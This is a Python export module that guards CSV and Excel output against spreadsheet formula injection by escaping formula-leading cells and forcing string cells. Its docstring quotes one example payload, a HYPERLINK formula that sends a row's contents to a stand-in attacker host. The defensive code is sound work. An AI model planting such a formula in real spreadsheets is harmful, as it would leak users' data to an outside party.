"""Tables written for people to open in a spreadsheet: every CSV and Excel export goes
through here, so that no text a user typed is run as a formula.

Spreadsheet programs run a CSV cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return (`=HYPERLINK("http://evil.example/?"&A1,"Click")` sends the row away on a click), and
openpyxl stores a string that starts with `=` as a formula. So, as OWASP advises, a CSV cell
of text that starts with one of these gets a single quote before it, which the programs
read as "this is text" and do not show; an Excel cell of text is always a string cell."""

import csv
import io
import re
from collections.abc import Iterable

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import TYPE_STRING

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
# Control characters that the XML of an .xlsx file cannot hold (openpyxl refuses them).
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_NOT_IN_SHEET_NAME = re.compile(r"[\\/*?:\[\]]")

Row = Iterable[object]


def csv_cell(value):
    """A value as a CSV cell: text that a spreadsheet would run is marked as text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_MARK + value
    return value


def read_csv_cell(text: str) -> str:
    """A cell of a CSV sheet as its author meant it: a cell written by csv_cell (a sheet
    exported here, filled in and uploaded again) loses its mark."""
    if text.startswith(TEXT_MARK) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def csv_text(rows: Iterable[Row]) -> str:
    """Rows (lists of values) as CSV."""
    out = io.StringIO()
    csv.writer(out).writerows([csv_cell(value) for value in row] for row in rows)
    return out.getvalue()


def xlsx_bytes(rows: Iterable[Row], title: str) -> bytes:
    """Rows (lists of values) as an Excel workbook of one sheet named `title`: text in
    string cells (never a formula), numbers, dates and booleans as themselves."""
    return xlsx_sheets([(title, rows)])


def xlsx_sheets(sheets: Iterable[tuple[str, Iterable[Row]]]) -> bytes:
    """Sheets (a title and its rows each) as one Excel workbook, cells as in xlsx_bytes."""
    book = Workbook(write_only=True)
    for title, rows in sheets:
        # Excel's longest sheet name, without the characters it refuses in one
        sheet = book.create_sheet(_NOT_IN_SHEET_NAME.sub(" ", title)[:31])
        for row in rows:
            sheet.append([_xlsx_cell(sheet, value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xlsx_cell(sheet, value):
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(sheet, value=_NOT_IN_XML.sub("", value))
    cell.data_type = TYPE_STRING  # openpyxl made "=..." a formula
    return cell
